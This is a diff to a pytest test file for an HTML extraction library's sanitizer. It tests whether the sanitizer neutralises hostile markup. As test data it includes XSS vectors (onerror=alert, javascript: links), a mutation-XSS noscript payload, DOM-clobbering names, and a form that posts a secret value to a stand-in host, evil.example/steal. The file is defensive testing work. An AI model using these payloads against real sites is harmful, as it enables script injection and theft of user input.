@@ -2,19 +2,25 @@
 
 from __future__ import annotations
 
+import gzip
+import hashlib
+import json
 import re
+from pathlib import Path
 
 import numpy as np
 import pytest
 
+import extract_trt
 from extract_trt import Extractor
 from extract_trt.runtime.reconstruct import reconstruct
-from extract_trt.runtime.sanitize import active_content, is_unsafe_url, sanitize_markdown
+from extract_trt.runtime.sanitize import active_content, is_unsafe_url
 from extract_trt.runtime.simplify import simplify
 from extract_trt.runtime.simplify_v1 import DRIPPER_V1
 from extract_trt.runtime.types import Labels
 
-from hostile_pages import XSS_PAGES, XSS_VECTORS, AllMain, in_page, item_ids, seed_pages
+from hostile_pages import DATA, XSS_PAGES, XSS_VECTORS, AllMain, in_page, item_ids, seed_pages
+from markdown_render import markdown_violations
 
 SANITISED = Extractor(labeler=AllMain(), output=("html", "markdown", "text"))
 KEPT = Extractor(labeler=AllMain(), output=("html", "markdown", "text"), keep_markup=True)
@@ -36,7 +42,7 @@ def test_no_active_content_survives(name: str, fragment: str) -> None:
     assert "river restoration" in r.text  # the article around the vector is still there
     if fragment.startswith("<p>Hello"):
         assert re.search(r"Hello\b.*\bworld", r.text, re.DOTALL)  # text after a removed element is kept
-    assert not _SCRIPT_URL.search(r.markdown) and "<script" not in r.markdown.lower()
+    assert not _SCRIPT_URL.search(r.markdown) and markdown_violations(r.markdown) == []
     assert "alert(1)" not in r.text
 
 
@@ -60,10 +66,49 @@ def test_escaped_text_stays_text_under_the_dripper_profile() -> None:
     assert active_content(safe) == [] and "&lt;script&gt;alert(1)&lt;/script&gt;" in safe
 
 
-def test_input_block_marks_are_dropped_real_ones_kept() -> None:
+def test_input_block_marks_are_dropped_real_ones_kept_when_asked_for() -> None:
     html = in_page('<p _item_id="99" cc-block-type="true">Forged marks on a paragraph.</p>')
-    r = SANITISED.extract(html)
+    r = Extractor(labeler=AllMain(), output="html", item_ids=True).extract(html)
     assert item_ids(r.main_html) == list(range(1, r.n_blocks + 1)) and "cc-block-type" not in r.main_html
+    default = SANITISED.extract(html).main_html
+    assert item_ids(default) == [] and "cc-block-type" not in default and "Forged marks" in default
+    assert item_ids(KEPT.extract(html).main_html) == list(range(1, r.n_blocks + 1))  # the reference's marks
+
+
+def test_forms_become_text() -> None:
+    html = in_page(
+        '<form action="https://evil.example/steal" method="post"><fieldset><legend>Sign in</legend>'
+        '<label for="u">User name</label> <input id="u" name="user" value="secret-value">'
+        '<select name="s"><option>Choice one</option></select><datalist><option>listed</option></datalist>'
+        '<textarea name="t">Typed &lt;/textarea&gt;&lt;b&gt;text</textarea>'
+        '<button formaction="https://evil.example/b" type="submit">Send it</button></fieldset></form>'
+    )
+    safe, kept = SANITISED.extract(html), KEPT.extract(html)
+    assert active_content(safe.main_html) == [] and active_content(kept.main_html) != []
+    for gone in ("<form", "<input", "<button", "<select", "<textarea", "<label", "action=", "secret-value", "Choice"):
+        assert gone not in safe.main_html
+    for text in ("Sign in", "User name", "Typed &lt;/textarea&gt;&lt;b&gt;text", "Send it"):
+        assert text in safe.main_html
+    assert safe.text == kept.text  # laid out as before: the renamed elements have the same text layout
+
+
+@pytest.mark.parametrize("attr", ['id="cookie"', 'name="getElementById"', 'name="body"', 'id="attributes"'])
+def test_dom_clobbering_names_are_dropped(attr: str) -> None:
+    html = in_page(f'<p><img {attr} src="/a.png"> <a {attr} href="/x">link</a> and <span id="top">top</span></p>')
+    safe = SANITISED.extract(html).main_html
+    assert attr not in safe and active_content(safe) == [] and 'id="top"' in safe and 'src="/a.png"' in safe
+    assert f"img[{attr.split('=')[0]}]" in active_content(KEPT.extract(html).main_html)
+
+
+def test_noscript_and_template_content_stays_inert() -> None:
+    # mutation XSS: with scripting on, a browser ends <noscript> at the first "</noscript" in it
+    html = in_page(
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Noscript paragraph with words.</p></noscript>'
+        "<template><img src=x onerror=alert(2)><p>Template paragraph.</p></template>"
+    )
+    safe = SANITISED.extract(html).main_html
+    assert safe.count("</noscript") == safe.count("<noscript") == 1 and "Noscript paragraph" in safe
+    assert active_content(safe) == [] and "Template paragraph." in safe and "alert(2)" not in safe
 
 
 def test_legacy_raw_text_elements_read_back_as_text() -> None:
@@ -101,27 +146,50 @@ def test_is_unsafe_url(url: str, attr: str, unsafe: bool) -> None:
     assert is_unsafe_url(url, attr) is unsafe
 
 
-@pytest.mark.parametrize(
-    "markdown, expected",
-    [
-        ("[click](javascript:alert(1))", "[click]\\(javascript:alert(1))"),
-        ("[click]( <JAVA SCRIPT:x>)", "[click]\\( \\<JAVA SCRIPT:x>)"),
-        ("![img](data:image/png;base64,AA) [ok](https://x.org)", "![img](data:image/png;base64,AA) [ok](https://x.org)"),
-        ("see <img src=x onerror=alert(1)> and <javascript:alert(1)>", "see \\<img src=x onerror=alert(1)> and \\<javascript:alert(1)>"),
-        ("a < b and b > c", "a < b and b > c"),
-        ("`<script>` stays code, <b> does not", "`<script>` stays code, \\<b> does not"),
-        ("```\n<script>code</script>\n[x](javascript:y)\n```\n<i>", "```\n<script>code</script>\n[x](javascript:y)\n```\n\\<i>"),
-        ("[ref]: javascript:alert(1)", "\\[ref]: javascript:alert(1)"),
-        ("[ref]: https://example.com", "[ref]: https://example.com"),
-    ],
-)
-def test_sanitize_markdown(markdown: str, expected: str) -> None:
-    assert sanitize_markdown(markdown) == expected
-
-
 def test_markdown_of_text_that_looks_like_markup() -> None:
     html = in_page("<p>Try [click](javascript:alert(1)) or &lt;img src=x onerror=alert(2)&gt; here.</p>")
-    r = SANITISED.extract(html)
-    assert "](javascript:" not in r.markdown and not re.search(r"(?<!\\)<img", r.markdown)
-    assert "[click]\\(javascript:alert(1))" in r.markdown and "\\<img src=x onerror=alert(2)>" in r.markdown
-    assert KEPT.extract(html).markdown.count("](javascript:") == 1
+    for extractor in (SANITISED, KEPT):  # Markdown is escaped at the writer, keep_markup or not
+        markdown = extractor.extract(html).markdown
+        assert "\\[click\\](javascript:alert(1))" in markdown and "\\<img src=x onerror=alert(2)>" in markdown
+        assert markdown_violations(markdown) == []
+
+
+class _EveryThirdOther:
+    """Labels two blocks in three main: reconstruction keeps parts of the page (ancestors, <br> recall)."""
+
+    name = "alternate"
+
+    def label(self, pages):
+        return [Labels(np.arange(len(p)) % 3 != 1, self.name) for p in pages]
+
+
+def test_keep_markup_main_html_is_byte_identical_to_before_the_safer_defaults() -> None:
+    # Digests of keep_markup main HTML written by the code before the safer defaults (tests/fixtures/
+    # keep_markup_digests.json: the bundled sample pages and the first 12 wcxb-dev pages, two labelers).
+    expected = json.loads((Path(__file__).parent / "fixtures" / "keep_markup_digests.json").read_text())
+    pages = [(f"sample:{p.name}", p.read_text(encoding="utf-8"))
+             for p in sorted((Path(extract_trt.__file__).parent / "samples").glob("*.html"))]  # fmt: skip
+    with gzip.open(DATA / "wcxb-dev.jsonl.gz", "rt", encoding="utf-8") as fh:
+        for _, line in zip(range(12), fh):
+            record = json.loads(line)
+            pages.append((f"wcxb-dev:{record['id']}", record["html"]))
+    got = {}
+    for labeler in (AllMain(), _EveryThirdOther()):
+        extractor = Extractor(labeler=labeler, output="html", keep_markup=True, time_budget=None)
+        for name, html in pages:
+            result = extractor.extract(html)
+            got[f"{labeler.name}|{name}"] = hashlib.sha256(result.main_html.encode("utf-8")).hexdigest()
+    assert got == expected
+
+
+def test_cli_item_ids_flag(tmp_path) -> None:
+    from typer.testing import CliRunner
+
+    from extract_trt.cli import app
+
+    page = tmp_path / "page.jsonl"
+    page.write_text(json.dumps({"id": "a", "html": in_page("<p>Hello world.</p>")}) + "\n")
+    run = lambda *flags: json.loads(CliRunner().invoke(  # noqa: E731
+        app, ["extract", str(page), "-f", "html", "-l", "heuristic", *flags], catch_exceptions=False
+    ).stdout)["main_html"]
+    assert item_ids(run()) == [] and item_ids(run("--item-ids")) != [] and item_ids(run("--keep-markup")) != []
